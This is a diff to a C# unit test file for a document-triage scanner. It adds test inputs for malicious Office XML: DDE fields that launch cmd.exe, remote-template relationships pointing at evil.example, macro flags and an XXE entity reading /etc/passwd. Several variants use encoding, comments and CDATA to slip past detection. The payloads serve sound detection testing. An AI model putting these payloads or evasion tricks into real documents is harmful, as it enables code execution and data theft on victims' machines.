@@ -38,11 +38,35 @@ public class DocumentTriageTests
     [InlineData("<w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
     [InlineData("<w:fldSimple w:instr=\"DDE &quot;c:\\cmd.exe&quot;\">", "Office.Dde")]
     [InlineData("<w:instrText>PAGE</w:instrText> DDE is dead", null)]
+    [InlineData("<Relationship Id=\"1\" Type=\"http://x/&#x61;ttachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"&#69;xternal\"/>", "Office.RemoteTemplate")]
+    [InlineData("<Relationship Id=\"a>b\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>", "Office.RemoteTemplate")]
+    [InlineData("<r:Relationship Type='http://x/aFChunk' Target='http://evil.example/t.htm' TargetMode='External'/>", "Office.RemoteTemplate")]
+    [InlineData("<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>", "Office.Dde")]
+    [InlineData("<w:instrText>DDE<!-- x -->AUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
+    [InlineData("<w:instrText><![CDATA[DDEAUTO]]> c:\\cmd.exe</w:instrText>", "Office.Dde")]
+    [InlineData("<x:fldSimple x:instr='DDE c:\\cmd.exe'>", "Office.Dde")]
+    [InlineData("<!-- never closed <w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>", "Office.Dde")]
+    [InlineData("<x:wordDocument x:macrosPresent='yes'>", "Office.VbaMacro")]
     [InlineData("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\">", "Office.Dde")]
     [InlineData("<Cell ss:Formula=\"=cmd|'/c calc'!A1\">", "Office.Dde")]
     [InlineData("<w:wordDocument w:macrosPresent=\"yes\">", "Office.VbaMacro")]
     public void Xml_of_documents_is_searched(string xml, string? finding) =>
         Assert.Equal(finding is null ? [] : [finding], Check(ContentTypes.Xml, xml));
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("<?xml version=\"1.0\"?>")]
+    [InlineData("<!-- a comment -->")]
+    public void A_part_of_a_package_is_xml_whatever_it_begins_with(string front)
+    {
+        byte[] part = Encoding.UTF8.GetBytes(front + "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>");
+        var findings = new List<Finding>();
+        var package = new ScanItem { Type = ContentTypes.Docx, Path = "/", Size = 0, Sha256 = "" };
+        ScanItem item = package with { Parent = package, Type = ContentTypes.Detect(part) };
+        Assert.True(DocumentTriage.Serves(item));
+        DocumentTriage.Check(item, part, findings, TestContext.Current.CancellationToken);
+        Assert.Equal(["Office.RemoteTemplate"], findings.Select(f => f.Name));
+    }
 
     [Theory]
     [InlineData("<?xml version=\"1.0\"?><!DOCTYPE x [ <!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document/>", true)]
